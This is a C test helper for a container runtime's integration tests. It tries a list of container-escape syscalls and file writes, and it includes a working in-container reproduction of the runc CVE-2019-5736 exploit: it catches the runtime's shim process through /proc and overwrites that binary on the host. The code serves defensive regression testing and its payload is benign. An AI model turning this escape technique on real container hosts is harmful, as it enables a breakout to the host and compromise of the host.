/*
 * jbox-probe — facts busybox cannot show, checked from inside a container by the integration
 * tests. Built static by the tests and copied into their test image.
 *   jbox-probe shm KEY         exit 0 if a SysV shared memory segment with KEY is visible, else 1
 *   jbox-probe shm-create KEY  create one (run on the host), print its id
 *   jbox-probe shm-remove ID   remove it again
 *   jbox-probe try ATTEMPT     make one escape attempt; print "ok" or the errno's name (EPERM...)
 *   jbox-probe fds             list this process's open descriptors
 *   jbox-probe grab-shim DIR   CVE-2019-5736 from inside: catch exec's jbox-shim child in /proc, keep
 *                              its exe, rewrite it later (DIR/result says how far; see grab_shim)
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/perf_event.h>
#include <linux/reboot.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ipc.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/swap.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <netinet/in.h>
#include <unistd.h>

static long attempt(const char *what)
{
	if (!strcmp(what, "mount"))
		return mount("none", "/tmp", "tmpfs", 0, "");
	if (!strcmp(what, "umount"))
		return umount2("/proc", MNT_DETACH);
	if (!strcmp(what, "pivot_root"))
		return syscall(SYS_pivot_root, "/", "/");
	if (!strcmp(what, "unshare-user"))
		return unshare(CLONE_NEWUSER);
	if (!strcmp(what, "unshare-mount"))
		return unshare(CLONE_NEWNS);
	if (!strcmp(what, "clone-user"))
		return syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0) == 0 ? (_exit(0), 0) : -1;
	if (!strcmp(what, "reboot"))
		return syscall(SYS_reboot, LINUX_REBOOT_MAGIC1, LINUX_REBOOT_MAGIC2, LINUX_REBOOT_CMD_CAD_ON, NULL);
	if (!strcmp(what, "kexec_load"))
		return syscall(SYS_kexec_load, 0, 0, NULL, 0);
	if (!strcmp(what, "init_module"))
		return syscall(SYS_init_module, NULL, 0, "");
	if (!strcmp(what, "finit_module"))
		return syscall(SYS_finit_module, -1, "", 0);
	if (!strcmp(what, "swapon"))
		return swapon("/tmp/no-such-swap", 0);
	if (!strcmp(what, "settimeofday")) {
		struct timeval tv;
		gettimeofday(&tv, NULL); /* the current time: harmless even if it were allowed */
		return settimeofday(&tv, NULL);
	}
	if (!strcmp(what, "sethostname"))
		return sethostname("escaped", 7);
	if (!strcmp(what, "raw-socket"))
		return socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
	if (!strcmp(what, "ptrace"))
		return ptrace(PTRACE_ATTACH, 1, NULL, NULL);
	if (!strcmp(what, "keyctl"))
		return syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -3, 0);
	if (!strcmp(what, "bpf")) {
		union bpf_attr attr;
		memset(&attr, 0, sizeof(attr));
		return syscall(SYS_bpf, BPF_MAP_CREATE, &attr, sizeof(attr));
	}
	if (!strcmp(what, "perf_event_open")) {
		struct perf_event_attr pe;
		memset(&pe, 0, sizeof(pe));
		pe.size = sizeof(pe);
		pe.type = PERF_TYPE_SOFTWARE;
		pe.config = PERF_COUNT_SW_CPU_CLOCK;
		return syscall(SYS_perf_event_open, &pe, 0, -1, -1, 0);
	}
	if (!strcmp(what, "open_by_handle_at")) {
		char buf[sizeof(struct file_handle) + 64];
		struct file_handle *h = (struct file_handle *)buf;
		memset(buf, 0, sizeof(buf));
		h->handle_bytes = 8;
		return syscall(SYS_open_by_handle_at, AT_FDCWD, h, O_RDONLY);
	}
	if (!strcmp(what, "mknod-block"))
		return mknod("/tmp/sda", S_IFBLK | 0600, makedev(8, 0));
	if (!strcmp(what, "sysrq-trigger"))
		return open("/proc/sysrq-trigger", O_WRONLY);
	if (!strcmp(what, "proc-sys-write"))
		return open("/proc/sys/kernel/ns_last_pid", O_WRONLY);
	if (!strcmp(what, "kcore")) {
		int fd = open("/proc/kcore", O_RDONLY);
		char c;
		if (fd < 0)
			return -1;
		if (read(fd, &c, 1) == 1)
			return 0;
		errno = ENODATA; /* masked by /dev/null: nothing to read */
		return -1;
	}
	if (!strcmp(what, "sys-write"))
		return open("/sys/class/net/lo/mtu", O_WRONLY);
	if (!strcmp(what, "exe-write"))
		return open("/proc/self/exe", O_WRONLY);
	if (!strcmp(what, "init-exe-write"))
		return open("/proc/1/exe", O_WRONLY);
	errno = EINVAL;
	fprintf(stderr, "jbox-probe: unknown attempt %s\n", what);
	exit(2);
}

static const char *errno_name(int e)
{
	switch (e) {
	case EPERM: return "EPERM";
	case ENOENT: return "ENOENT";
	case ESRCH: return "ESRCH";
	case EACCES: return "EACCES";
	case EBUSY: return "EBUSY";
	case EINVAL: return "EINVAL";
	case EROFS: return "EROFS";
	case ETXTBSY: return "ETXTBSY";
	case ENOSYS: return "ENOSYS";
	case EBADF: return "EBADF";
	case EFAULT: return "EFAULT";
	case ENODATA: return "ENODATA";
	case EOPNOTSUPP: return "EOPNOTSUPP";
	default: return "EOTHER";
	}
}

/* DIR/result, whole or not at all: the test reads it while we run. */
static void put_result(const char *dir, const char *text)
{
	char tmp[4096], path[4096];
	snprintf(tmp, sizeof(tmp), "%s/result.tmp", dir);
	snprintf(path, sizeof(path), "%s/result", dir);
	FILE *f = fopen(tmp, "w");
	if (!f || fputs(text, f) < 0 || fclose(f) != 0 || rename(tmp, path) < 0) {
		perror("jbox-probe: result");
		exit(2);
	}
}

/* /proc/PID/cmdline's first argument, "" if gone (readable even when exe is not). */
static const char *first_arg(const char *pid, char *buf, size_t size)
{
	char path[300];
	snprintf(path, sizeof(path), "/proc/%s/cmdline", pid);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t n = fd < 0 ? -1 : read(fd, buf, size - 1);
	if (fd >= 0)
		close(fd);
	buf[n > 0 ? n : 0] = 0;
	return buf;
}

/* As the container's PID 1 the probe must outlive the exec it caught: its end would kill that. */
static __attribute__((noreturn)) int stay(void)
{
	for (;;)
		pause();
}

/* Holding the shim's exe: wait for DIR/go, then truncate and rewrite the binary through the fd. */
static int rewrite(const char *dir, int fd, const char *link)
{
	char path[300], text[8192];
	snprintf(text, sizeof(text), "grabbed %s\n", link);
	put_result(dir, text);
	snprintf(path, sizeof(path), "%s/go", dir);
	while (access(path, F_OK) != 0)
		usleep(10000);
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	int w = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);
	const char payload[] = "#!/bin/sh\necho overwritten from a container\n";
	int ok = w >= 0 && write(w, payload, sizeof(payload) - 1) == (ssize_t)sizeof(payload) - 1;
	snprintf(text + strlen(text), sizeof(text) - strlen(text), "write %s\n", ok ? "ok" : errno_name(errno));
	put_result(dir, text);
	return stay();
}

/*
 * Follows one process that runs jbox-shim (exec's child, until its execve): the moment its
 * /proc/PID/exe opens, the fd is kept (rewrite). Returns if the process went before any answer;
 * writes "denied ERRNO" (and stays) if it was refused the link until its execve or its end.
 */
static void follow(const char *dir, const char *pid)
{
	char path[300], link[4096];
	int denied = 0;
	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	for (;;) {
		int fd = open(path, O_PATH | O_CLOEXEC);
		if (fd < 0 && (errno == EACCES || errno == EPERM)) {
			denied = errno;
			continue;
		}
		if (fd < 0)
			break; /* gone (a zombie has no exe) */
		char self[64];
		snprintf(self, sizeof(self), "/proc/self/fd/%d", fd);
		ssize_t n = readlink(self, link, sizeof(link) - 1);
		link[n > 0 ? n : 0] = 0;
		if (strstr(link, "jbox-shim"))
			rewrite(dir, fd, link);
		close(fd);
		break; /* it reached its execve: that is the workload's binary */
	}
	if (denied) {
		snprintf(link, sizeof(link), "denied %s\n", errno_name(denied));
		put_result(dir, link);
		stay();
	}
}

/*
 * runc's CVE-2019-5736 from inside: say DIR/ready, then spin over /proc for a process whose first
 * argument names jbox-shim (the test runs `exec ID true`) and follow it. DIR/result says how far
 * the attack got: "grabbed LINK" then "write ok|ERRNO", or "denied ERRNO".
 */
static __attribute__((noreturn)) int grab_shim(const char *dir)
{
	char path[300], arg[4096];
	snprintf(path, sizeof(path), "%s/ready", dir);
	close(open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644));
	for (;;) {
		DIR *d = opendir("/proc");
		struct dirent *e;
		while (d && (e = readdir(d)) != NULL) {
			if (e->d_name[0] < '1' || e->d_name[0] > '9' || atoi(e->d_name) == getpid())
				continue;
			const char *a = first_arg(e->d_name, arg, sizeof(arg)), *base = strrchr(a, '/');
			if (strcmp(base ? base + 1 : a, "jbox-shim") == 0)
				follow(dir, e->d_name);
		}
		if (d)
			closedir(d);
		sched_yield();
	}
}

int main(int argc, char **argv)
{
	if (argc == 3 && strcmp(argv[1], "grab-shim") == 0)
		return grab_shim(argv[2]);
	if (argc == 3 && strcmp(argv[1], "shm") == 0) {
		int id = shmget((key_t)strtol(argv[2], NULL, 0), 0, 0);
		printf("%s\n", id >= 0 ? "visible" : "invisible");
		return id >= 0 ? 0 : 1;
	}
	if (argc == 3 && strcmp(argv[1], "shm-create") == 0) {
		int id = shmget((key_t)strtol(argv[2], NULL, 0), 4096, IPC_CREAT | IPC_EXCL | 0600);
		if (id < 0) {
			perror("shmget");
			return 1;
		}
		printf("%d\n", id);
		return 0;
	}
	if (argc == 3 && strcmp(argv[1], "shm-remove") == 0)
		return shmctl(atoi(argv[2]), IPC_RMID, NULL) < 0 ? 1 : 0;
	if (argc >= 3 && strcmp(argv[1], "try") == 0) {
		for (int i = 2; i < argc; i++) {
			errno = 0;
			long rc = attempt(argv[i]);
			printf("%s %s\n", argv[i], rc >= 0 ? "ok" : errno_name(errno));
		}
		return 0;
	}
	if (argc == 2 && strcmp(argv[1], "fds") == 0) {
		DIR *d = opendir("/proc/self/fd");
		struct dirent *e;
		while (d && (e = readdir(d)) != NULL)
			if (e->d_name[0] != '.')
				printf("%s\n", e->d_name);
		return 0;
	}
	fprintf(stderr, "usage: jbox-probe shm|shm-create KEY | shm-remove ID | try ATTEMPT... | fds | grab-shim DIR\n");
	return 2;
}
